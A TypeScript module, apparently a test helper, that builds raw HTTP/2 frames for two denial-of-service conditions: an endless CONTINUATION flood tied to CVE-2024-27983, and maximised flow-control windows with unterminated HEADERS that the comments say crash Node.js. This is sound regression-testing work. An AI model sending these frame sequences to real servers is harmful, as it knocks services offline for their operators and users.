/** Bytes of a header field that each frame carries. */
const VALUE = 'x'.repeat(100);

const HEADERS = 1;
const SETTINGS = 4;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;

/**
 * Frames of a request whose head goes on and on: HEADERS without END_HEADERS, and this many CONTINUATION frames, none of which is the
 * last (the abuse that CVE-2024-27983 and its relatives are about).
 */
export function endlessHead(stream: number, host: string, frames: number): Buffer {
  // from the static table: GET, http, /
  const first = Buffer.concat([Buffer.from([0x82, 0x86, 0x84, 0x41]), text(host)]);
  const field = Buffer.concat([Buffer.from([0]), text('x-flood'), text(VALUE)]);
  const more = frame(CONTINUATION, stream, field);
  return Buffer.concat([frame(HEADERS, stream, first), ...Array.from({ length: frames }, () => more)]);
}

/**
 * Frames with which trailers, or the head of an answer, begin and do not end, and which let the peer send as much as the kernel takes. A
 * Node.js program that destroys such a session while it writes is aborted (`~Http2Session`, current_nghttp2_memory_).
 */
export function halfHead(stream: number, isAnswer: boolean): Buffer {
  const field = Buffer.concat([Buffer.from([0]), text('x-half'), text(VALUE)]);
  return Buffer.concat([
    // SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113, 6.5.2), and the window of the connection
    frame(SETTINGS, 0, Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff])),
    frame(WINDOW_UPDATE, 0, Buffer.from([0x7f, 0xff, 0, 0])),
    // from the static table: 200
    frame(HEADERS, stream, isAnswer ? Buffer.concat([Buffer.from([0x88]), field]) : field),
  ]);
}

/** Literal of HPACK without Huffman coding, shorter than 127 bytes. */
const text = (value: string): Buffer =>
  Buffer.concat([Buffer.from([value.length]), Buffer.from(value, 'latin1')]);

function frame(type: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
